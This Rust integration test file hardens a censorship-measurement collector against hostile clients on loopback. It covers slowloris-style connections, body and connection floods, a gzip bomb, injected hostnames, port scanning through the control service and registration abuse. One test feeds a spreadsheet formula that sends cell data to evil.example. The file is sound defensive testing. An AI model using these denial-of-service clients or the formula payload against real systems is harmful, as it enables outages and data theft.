//! Hostile clients against the real `witness-collector` binary (issue 9): each attack a censor
//! could run against a public collector, with what must hold afterwards: the collector's peak
//! memory read from `/proc`, connections closed within a bound, status codes, exported cells.
//!
//! Everything stays on loopback; every test bounds its own time and traffic.

use std::io::Write as _;
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use chrono::{TimeDelta, Utc};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use witness_core::model::{
    ConnectivitySummary, HttpObservation, Measurement, Method, ProbeNetwork, Software, Status,
    Verdict, SCHEMA_VERSION,
};
use witness_tests::dns::{DnsBehaviour, DnsServer};
use witness_tests::CollectorProcess;

const MIB: u64 = 1024;

fn collector(sections: &str) -> (tempfile::TempDir, CollectorProcess) {
    collector_with("", sections)
}

/// A collector with extra `[server]` keys (the helper's own config already has the section).
fn collector_with(server: &str, sections: &str) -> (tempfile::TempDir, CollectorProcess) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("collector.db");
    let config = dir.path().join("collector.toml");
    let text = format!(
        "[server]\nlisten = \"127.0.0.1:0\"\n{server}\n\n[store]\nurl = \"sqlite://{}\"\n\n{sections}\n",
        db.display()
    );
    std::fs::write(&config, text).unwrap();
    let c = CollectorProcess::start_with(&config, &db).unwrap();
    (dir, c)
}

fn client_from(source: Option<IpAddr>) -> reqwest::Client {
    let mut b = reqwest::Client::builder().timeout(Duration::from_secs(30));
    if let Some(ip) = source {
        b = b.local_address(ip);
    }
    b.build().unwrap()
}

async fn register(c: &CollectorProcess) -> String {
    let resp = client_from(None)
        .post(format!("{}api/v1/register", c.url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let v: Value = resp.json().await.unwrap();
    v["token"].as_str().unwrap().to_string()
}

fn measurement(domain: &str, reason: &str) -> Measurement {
    Measurement {
        schema_version: SCHEMA_VERSION,
        id: uuid::Uuid::now_v7(),
        software: Software::default(),
        url: format!("https://{domain}/"),
        domain: domain.to_string(),
        category_code: Some("NEWS".into()),
        started_at: Utc::now() - TimeDelta::minutes(5),
        runtime_ms: 900.0,
        probe: ProbeNetwork {
            asn: Some(64500),
            country: Some("KZ".into()),
        },
        dns: vec![],
        tcp: vec![],
        tls: vec![],
        http: vec![],
        control: None,
        control_failure: None,
        path: None,
        app: None,
        connectivity: ConnectivitySummary::default(),
        verdict: Verdict::new(Status::Blocked, Some(Method::Tls), reason),
    }
}

async fn get(url: &str) -> reqwest::Result<(u16, String)> {
    let resp = client_from(None).get(url).send().await?;
    let status = resp.status().as_u16();
    Ok((status, resp.text().await?))
}

async fn upload(c: &CollectorProcess, token: &str, records: &[Value]) -> (u16, Value) {
    let resp = client_from(None)
        .post(format!("{}api/v1/measurements", c.url))
        .bearer_auth(token)
        .json(&json!({ "measurements": records }))
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// Read from `s` until EOF or an error, at most `within`: true when the server closed.
async fn closed_within(s: &mut TcpStream, within: Duration) -> bool {
    let mut buf = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Err(_) => return false,
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
        }
    }
}

/// The status code of the response head read from `s` within `within`, if any.
async fn status_within(s: &mut TcpStream, within: Duration) -> Option<u16> {
    let mut head = Vec::new();
    let mut buf = [0u8; 1024];
    let deadline = tokio::time::Instant::now() + within;
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => head.extend_from_slice(&buf[..n]),
            _ => return None,
        }
    }
    let text = String::from_utf8_lossy(&head);
    text.split_whitespace().nth(1)?.parse().ok()
}

// ------------------------------------------------------------------ connections and bodies

/// Before: upload bodies (8 MiB each) were read in full before the token was checked, so 100
/// token-less connections held 800 MiB. Now the answer (401) comes before any body byte is
/// read, and the collector's peak memory stays flat while the clients push bodies anyway.
#[tokio::test]
async fn bodies_without_a_token_are_refused_before_they_are_read() {
    let (_dir, c) = collector("");
    let addr: SocketAddr = c.addr().parse().unwrap();
    let before = c.peak_rss_kib().unwrap();
    let mut conns = Vec::new();
    for _ in 0..50 {
        let mut s = TcpStream::connect(addr).await.unwrap();
        let head = format!(
            "POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n",
            8 * 1024 * 1024 - 1
        );
        s.write_all(head.as_bytes()).await.unwrap();
        conns.push(s);
    }
    // Every one is answered 401 although no body byte was sent.
    for s in &mut conns {
        assert_eq!(status_within(s, Duration::from_secs(10)).await, Some(401));
    }
    // Push 2 MiB at each anyway (the server may close early: errors are expected).
    let chunk = vec![b' '; 64 * 1024];
    let pushes = conns.into_iter().map(|mut s| {
        let chunk = chunk.clone();
        async move {
            for _ in 0..32 {
                if tokio::time::timeout(Duration::from_secs(2), s.write_all(&chunk))
                    .await
                    .map_or(true, |r| r.is_err())
                {
                    break;
                }
            }
        }
    });
    futures::future::join_all(pushes).await;
    let after = c.peak_rss_kib().unwrap();
    eprintln!("peak RSS {before} KiB before the attack, {after} KiB after");
    assert!(
        after < before + 40 * MIB,
        "peak RSS grew from {before} KiB to {after} KiB"
    );
}

/// Before: a client sending half a request head kept its connection for ever. Now
/// `server.header_read_timeout` closes it.
#[tokio::test]
async fn half_sent_headers_are_closed_after_the_header_timeout() {
    let (_dir, c) = collector_with("header_read_timeout = \"1s\"\n", "");
    let addr: SocketAddr = c.addr().parse().unwrap();
    let mut conns = Vec::new();
    for _ in 0..50 {
        let mut s = TcpStream::connect(addr).await.unwrap();
        s.write_all(b"POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        conns.push(s);
    }
    let t0 = Instant::now();
    let closed = futures::future::join_all(
        conns
            .iter_mut()
            .map(|s| closed_within(s, Duration::from_secs(5))),
    )
    .await;
    assert!(closed.iter().all(|c| *c), "{closed:?}");
    assert!(t0.elapsed() < Duration::from_secs(5));
    // And the collector still serves.
    let (status, _) = get(&format!("{}api/v1/health", c.url)).await.unwrap();
    assert_eq!(status, 200);
}

/// Before: a body that never ends was waited for for ever. Now `server.body_read_timeout`
/// answers 408 (for an authenticated client; others never get that far).
#[tokio::test]
async fn a_body_that_trickles_is_cut_at_the_body_timeout() {
    let (_dir, c) = collector_with("body_read_timeout = \"1s\"\n", "");
    let token = register(&c).await;
    let mut s = TcpStream::connect(c.addr()).await.unwrap();
    let head = format!(
        "POST /api/v1/measurements HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"measurements\": ["
    );
    s.write_all(head.as_bytes()).await.unwrap();
    assert_eq!(
        status_within(&mut s, Duration::from_secs(5)).await,
        Some(408)
    );
}

/// Before: no connection cap. Now connections over `server.max_connections` are closed at
/// once, and the collector serves again as soon as the flood goes. Since issue #20 a newcomer
/// at the cap closes the connection idle the longest (a silent connection counts as idle) and
/// waits up to 2 s (`EVICTION_WAIT`) for its slot, so which 20 close depends on timing; that
/// exactly 20 do, within that wait plus scheduling on a loaded machine, does not.
#[tokio::test]
async fn connections_over_the_cap_are_closed_at_once() {
    let (_dir, c) = collector_with("max_connections = 20\nheader_read_timeout = \"30s\"\n", "");
    let addr: SocketAddr = c.addr().parse().unwrap();
    let mut conns = Vec::new();
    for _ in 0..40 {
        conns.push(TcpStream::connect(addr).await.unwrap());
    }
    let closed = futures::future::join_all(
        conns
            .iter_mut()
            .map(|s| closed_within(s, Duration::from_secs(6))),
    )
    .await;
    let n = closed.iter().filter(|c| **c).count();
    assert_eq!(n, 20, "closed at once: {closed:?}");
    drop(conns);
    let t0 = Instant::now();
    loop {
        if let Ok((200, _)) = get(&format!("{}api/v1/health", c.url)).await {
            break;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "no service after the flood"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

// ------------------------------------------------------------------------ parsing

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

/// Before: an 8 KiB gzip inflating to a four-million-element array was refused only after it
/// was parsed (about 200 MB a request). Now the parse stops at `max_batch + 1`: twelve at once
/// leave the peak memory nearly flat.
#[tokio::test]
async fn a_gzip_of_millions_of_elements_is_refused_while_parsing() {
    let (_dir, c) = collector("[ingest]\nupload_burst = 20\n");
    let token = register(&c).await;
    let mut body = String::from(r#"{"measurements": ["#);
    body.push_str(&"0,".repeat(4_000_000));
    body.push_str("0]}");
    let bomb = gzip(body.as_bytes());
    assert!(bomb.len() < 16 * 1024, "{}", bomb.len());
    let before = c.peak_rss_kib().unwrap();
    let client = client_from(None);
    let sends = (0..12).map(|_| {
        client
            .post(format!("{}api/v1/measurements", c.url))
            .bearer_auth(&token)
            .header("Content-Type", "application/json")
            .header("Content-Encoding", "gzip")
            .body(bomb.clone())
            .send()
    });
    for r in futures::future::join_all(sends).await {
        let r = r.unwrap();
        assert_eq!(r.status(), 413);
        let v: Value = r.json().await.unwrap();
        assert!(v["error"].as_str().unwrap().contains("records"), "{v}");
    }
    let after = c.peak_rss_kib().unwrap();
    eprintln!("peak RSS {before} KiB before the attack, {after} KiB after");
    assert!(
        after < before + 40 * MIB,
        "peak RSS grew from {before} KiB to {after} KiB"
    );
}

/// Before: titles, headers and evidence lines were bounded only by the 256 KiB record cap,
/// though the docs promise 4096 bytes a text and 256 entries a list.
#[tokio::test]
async fn documented_field_bounds_are_enforced() {
    let (_dir, c) = collector("");
    let token = register(&c).await;
    let mut long_title = serde_json::to_value(measurement("title.example", "r")).unwrap();
    let mut obs = serde_json::to_value(HttpObservation {
        hop: 0,
        url: "https://title.example/".into(),
        addr: None,
        t_ms: 0.0,
        duration_ms: 1.0,
        failed_step: None,
        failure: None,
        status: Some(200),
        headers: vec![],
        title: Some("t".repeat(5000)),
        body_length: 0,
        body_truncated: false,
        body_sha256: None,
        ttfb_ms: None,
        body_ms: None,
        throughput_bps: None,
        blockpage: None,
        location: None,
        role: Default::default(),
    })
    .unwrap();
    long_title["http"] = json!([obs.clone()]);
    obs["title"] = Value::Null;
    obs["headers"] = json!((0..300)
        .map(|i| [format!("x-{i}"), "v".to_string()])
        .collect::<Vec<_>>());
    let mut many_headers = serde_json::to_value(measurement("headers.example", "r")).unwrap();
    many_headers["http"] = json!([obs]);
    let mut long_evidence = serde_json::to_value(measurement("evidence.example", "r")).unwrap();
    long_evidence["verdict"]["evidence"] = json!(["e".repeat(5000)]);
    let fine = serde_json::to_value(measurement("fine.example", "r")).unwrap();
    let (status, v) = upload(&c, &token, &[long_title, many_headers, long_evidence, fine]).await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["accepted"].as_array().unwrap().len(), 1, "{v}");
    let rejected = v["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 3, "{v}");
    for r in rejected {
        assert!(
            r["reason"].as_str().unwrap().starts_with("too_large"),
            "{r}"
        );
    }
}

/// Before: domains with `=`, `+`, quotes, brackets, backticks or braces were stored as sites.
#[tokio::test]
async fn hostnames_must_be_names_or_addresses() {
    let (_dir, c) = collector("");
    let token = register(&c).await;
    let bad: Vec<Value> = ["=1+2.example", "a`b.example", "{x}.example", "a'b.example"]
        .iter()
        .map(|d| serde_json::to_value(measurement(d, "r")).unwrap())
        .collect();
    let (status, v) = upload(&c, &token, &bad).await;
    assert_eq!(status, 200, "{v}");
    assert!(v["accepted"].as_array().unwrap().is_empty(), "{v}");
    for r in v["rejected"].as_array().unwrap() {
        assert!(
            r["reason"].as_str().unwrap().starts_with("invalid_field"),
            "{r}"
        );
    }
}

/// Before: the CSV export wrote probe-supplied strings verbatim, so a reason such as
/// `=HYPERLINK(...)` ran as a formula in the spreadsheet of whoever opened the export.
#[tokio::test]
async fn exported_csv_cells_are_never_formulas() {
    let (_dir, c) = collector("");
    let token = register(&c).await;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
    ];
    let records: Vec<Value> = evil
        .iter()
        .enumerate()
        .map(|(i, r)| serde_json::to_value(measurement(&format!("s{i}.example"), r)).unwrap())
        .collect();
    let (status, v) = upload(&c, &token, &records).await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["accepted"].as_array().unwrap().len(), evil.len(), "{v}");
    for path in [
        "api/v1/measurements?format=csv&limit=100",
        "api/v1/status?format=csv",
        "api/v1/sites/s0.example/history?format=csv",
    ] {
        let (status, text) = get(&format!("{}{path}", c.url)).await.unwrap();
        assert_eq!(status, 200, "{path}: {text}");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: formula cell {cell:?}"
                );
            }
        }
        assert!(cells > 0, "{path}: {text}");
        if path.starts_with("api/v1/measurements") {
            assert!(text.contains("'=HYPERLINK("), "{text}");
        }
    }
}

// --------------------------------------------------------------------- control service

/// A control section using the test resolver, with loopback counted as public so the control
/// may reach the test's own servers (and nothing else).
fn control_section(dns: SocketAddr, extra: &str) -> String {
    format!(
        "[control]\nresolver = \"{dns}\"\nlab_public_ranges = [\"127.0.0.0/8\"]\n\
         step_timeout_secs = 2.0\n{extra}\n"
    )
}

async fn control(c: &CollectorProcess, token: &str, body: Value) -> (u16, Value) {
    let resp = client_from(None)
        .post(format!("{}api/v1/control", c.url))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// Before: the control fetched any port. Now only `control.allowed_ports` (80 and 443 by
/// default): a port scan through the collector is refused without a connection.
#[tokio::test]
async fn the_control_connects_only_to_allowed_ports() {
    let dns = DnsServer::start("127.0.0.1".parse().unwrap(), [])
        .await
        .unwrap();
    let target = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = target.local_addr().unwrap().port();
    dns.set(
        "scan.example",
        DnsBehaviour::Answer(vec!["127.0.0.1".parse().unwrap()]),
    );
    let (_dir, c) = collector(&control_section(dns.addr(), ""));
    let token = register(&c).await;
    let (status, v) = control(
        &c,
        &token,
        json!({ "url": format!("http://scan.example:{port}/") }),
    )
    .await;
    assert_eq!(status, 422, "{v}");
    assert!(v["error"].as_str().unwrap().contains("port"), "{v}");
    let accepted = tokio::time::timeout(Duration::from_millis(500), target.accept()).await;
    assert!(accepted.is_err(), "the control connected to port {port}");
}

/// Before: for a name that does not resolve, the control still connected to the addresses the
/// caller sent. Now it connects nowhere and answers with its DNS observations only.
#[tokio::test]
async fn a_name_that_does_not_resolve_is_not_fetched_at_the_callers_addresses() {
    let dns = DnsServer::start("127.0.0.1".parse().unwrap(), [])
        .await
        .unwrap();
    let target = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = target.local_addr().unwrap().port();
    let (_dir, c) = collector(&control_section(
        dns.addr(),
        &format!("allowed_ports = [{port}]"),
    ));
    let token = register(&c).await;
    let (status, v) = control(
        &c,
        &token,
        json!({ "url": format!("http://nowhere.example:{port}/"), "addrs": ["127.0.0.1"] }),
    )
    .await;
    assert_eq!(status, 200, "{v}");
    assert!(dns.queries("nowhere.example") > 0);
    assert_eq!(v["control"]["tcp"], json!([]), "{v}");
    assert_eq!(v["control"]["http"], json!([]), "{v}");
    let accepted = tokio::time::timeout(Duration::from_millis(500), target.accept()).await;
    assert!(
        accepted.is_err(),
        "the control connected to the caller's address"
    );
}

/// Before: the control's replies carried internal (bogon) answers of its own resolver.
#[tokio::test]
async fn control_replies_carry_no_internal_addresses() {
    let dns = DnsServer::start("127.0.0.1".parse().unwrap(), [])
        .await
        .unwrap();
    let target = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = target.local_addr().unwrap().port();
    // Accept and close: the control's connect succeeds, its HTTP fails; that is enough.
    let server = tokio::spawn(async move {
        while let Ok((s, _)) = target.accept().await {
            drop(s);
        }
    });
    dns.set(
        "mixed.example",
        DnsBehaviour::Answer(vec![
            "127.0.0.1".parse().unwrap(),
            "10.11.12.13".parse().unwrap(),
            "192.168.7.7".parse().unwrap(),
        ]),
    );
    let (_dir, c) = collector(&control_section(
        dns.addr(),
        &format!("allowed_ports = [{port}]"),
    ));
    let token = register(&c).await;
    let (status, v) = control(
        &c,
        &token,
        json!({ "url": format!("http://mixed.example:{port}/") }),
    )
    .await;
    assert_eq!(status, 200, "{v}");
    let text = v.to_string();
    assert!(text.contains("127.0.0.1"), "{text}");
    for internal in ["10.11.12.13", "192.168.7.7"] {
        assert!(!text.contains(internal), "{internal} in {text}");
    }
    server.abort();
}

/// Before: one probe could fill all `control.max_concurrency` slots, and the next probe got
/// 503. Now each probe runs at most `control.max_per_probe` at once (its further requests wait
/// for its own slots), and another probe still gets a slot at once.
#[tokio::test]
async fn one_probe_cannot_take_every_control_slot() {
    let dns = DnsServer::start("127.0.0.1".parse().unwrap(), [])
        .await
        .unwrap();
    // The control's DNS query is never answered: each measurement holds its slot for the
    // step timeout (2 s). Every call names its own URL: calls for one URL share one
    // measurement (the shared view), which would hide the slots.
    for i in 0..5 {
        dns.set(&format!("slow{i}.example"), DnsBehaviour::Drop);
    }
    let (_dir, c) = collector(&control_section(
        dns.addr(),
        "max_concurrency = 4\nmax_per_probe = 2",
    ));
    let greedy = register(&c).await;
    let other = register(&c).await;
    let body = |i: usize| json!({ "url": format!("http://slow{i}.example/") });
    let greedy_calls = futures::future::join_all((0..4).map(|i| control(&c, &greedy, body(i))));
    let other_call = async {
        tokio::time::sleep(Duration::from_millis(500)).await;
        control(&c, &other, body(4)).await
    };
    let t0 = Instant::now();
    let (greedy_results, (other_result, other_done)) = tokio::join!(greedy_calls, async {
        let r = other_call.await;
        (r, t0.elapsed())
    });
    let greedy_done = t0.elapsed();
    let statuses: Vec<u16> = greedy_results.iter().map(|(s, _)| *s).collect();
    assert_eq!(other_result.0, 200, "{:?}", other_result.1);
    // The greedy probe's last two waited for its first two: two rounds of the 2 s timeout.
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    assert!(
        other_done < greedy_done && greedy_done >= Duration::from_secs(4),
        "other done after {other_done:?}, greedy after {greedy_done:?}"
    );
}

// ------------------------------------------------------------------------ registration

async fn register_from(c: &CollectorProcess, source: IpAddr, body: Option<Value>) -> u16 {
    let mut req = client_from(Some(source)).post(format!("{}api/v1/register", c.url));
    if let Some(b) = body {
        req = req.json(&b);
    }
    req.send().await.unwrap().status().as_u16()
}

/// Before: one global bucket: one client spending it locked every new volunteer out. Now a
/// client has its own small bucket under the global one.
#[tokio::test]
async fn one_client_cannot_lock_out_open_registration() {
    let (_dir, c) = collector_with("register_per_client_per_hour = 2\n", "");
    let greedy: IpAddr = "127.0.0.1".parse().unwrap();
    let mut statuses = Vec::new();
    for _ in 0..12 {
        statuses.push(register_from(&c, greedy, None).await);
    }
    assert_eq!(
        statuses.iter().filter(|s| **s == 200).count(),
        2,
        "{statuses:?}"
    );
    assert!(statuses[2..].iter().all(|s| *s == 429), "{statuses:?}");
    let newcomer: IpAddr = "127.0.0.2".parse().unwrap();
    assert_eq!(register_from(&c, newcomer, None).await, 200);
}

/// Before: failed invites were never limited (and each cost a write transaction). Now a
/// client's failures are counted, and past the budget it is refused before the store.
#[tokio::test]
async fn failed_invites_are_rate_limited_per_client() {
    let (_dir, c) = collector_with(
        "registration = \"invite\"\ninvite_failures_per_hour = 3\n",
        "",
    );
    let guesser: IpAddr = "127.0.0.1".parse().unwrap();
    let mut statuses = Vec::new();
    for i in 0..8 {
        let body = json!({ "invite": format!("guess-{i}") });
        statuses.push(register_from(&c, guesser, Some(body)).await);
    }
    assert_eq!(statuses[..3], [403, 403, 403], "{statuses:?}");
    assert!(statuses[3..].iter().all(|s| *s == 429), "{statuses:?}");
    // Another client is not affected.
    let other: IpAddr = "127.0.0.3".parse().unwrap();
    let body = json!({ "invite": "wrong" });
    assert_eq!(register_from(&c, other, Some(body)).await, 403);
}

// ------------------------------------------------------------------------------ export

/// Before: `GET /api/v1/measurements?limit=10000` loaded every row and built one JSON buffer,
/// so records planted by anyone who registers (about 200 KB each) grew the heap by gigabytes
/// under a few concurrent exports. Now the export streams a page of at most 8 MiB of records:
/// four concurrent exports of 40 MB of stored records grow the peak memory by about the four
/// pages, not by four copies of the table, and paging with `next_cursor` still reaches every
/// record.
#[tokio::test]
async fn exports_of_planted_big_records_stay_small_in_memory() {
    let (_dir, c) = collector("[ingest]\nupload_burst = 50\n");
    let token = register(&c).await;
    // ~200 KB a record: 50 HTTP hops with a 4000-byte title each (within every field bound).
    let hop = |i: usize| {
        json!({
            "hop": i, "url": "https://big.example/", "addr": null, "t_ms": 0.0,
            "duration_ms": 1.0, "failed_step": null, "failure": null, "status": 200,
            "headers": [], "title": "t".repeat(4000), "body_length": 0, "body_truncated": false,
            "body_sha256": null, "ttfb_ms": null, "body_ms": null, "throughput_bps": null,
            "blockpage": null, "location": null
        })
    };
    let hops: Vec<Value> = (0..50).map(hop).collect();
    let mut total = 0;
    for _batch in 0..6 {
        let records: Vec<Value> = (0..35)
            .map(|_| {
                let mut v = serde_json::to_value(measurement("big.example", "r")).unwrap();
                v["http"] = json!(hops);
                v
            })
            .collect();
        let (status, v) = upload(&c, &token, &records).await;
        assert_eq!(status, 200, "{v}");
        total += v["accepted"].as_array().unwrap().len();
    }
    assert_eq!(total, 210);
    let before = c.peak_rss_kib().unwrap();
    let client = client_from(None);
    let url = format!("{}api/v1/measurements?limit=10000", c.url);
    let pages = futures::future::join_all((0..4).map(|_| async {
        let r = client.get(&url).send().await.unwrap();
        assert_eq!(r.status(), 200);
        let v: Value = r.json().await.unwrap();
        (
            v["measurements"].as_array().unwrap().len(),
            v["next_cursor"].as_str().map(str::to_string),
        )
    }))
    .await;
    let after = c.peak_rss_kib().unwrap();
    eprintln!("export: peak RSS {before} KiB before, {after} KiB after four exports");
    for (n, next) in &pages {
        assert!(*n > 0 && *n < 210, "one page is capped by bytes: {n}");
        assert!(next.is_some());
    }
    // Four pages of at most 8 MiB of records each, and their rows and chunks in flight (about
    // 80 MB measured); the whole-table export of before took about 340 MB for the same four.
    assert!(
        after < before + 150 * MIB,
        "peak RSS grew from {before} KiB to {after} KiB"
    );
    // Paging reaches every record.
    let mut seen = 0;
    let mut cursor: Option<String> = None;
    loop {
        let mut req = client
            .get(format!("{}api/v1/measurements", c.url))
            .query(&[("limit", "10000")]);
        if let Some(cur) = &cursor {
            req = req.query(&[("cursor", cur.as_str())]);
        }
        let v: Value = req.send().await.unwrap().json().await.unwrap();
        seen += v["measurements"].as_array().unwrap().len();
        match v["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_string()),
            None => break,
        }
    }
    assert_eq!(seen, 210);
}
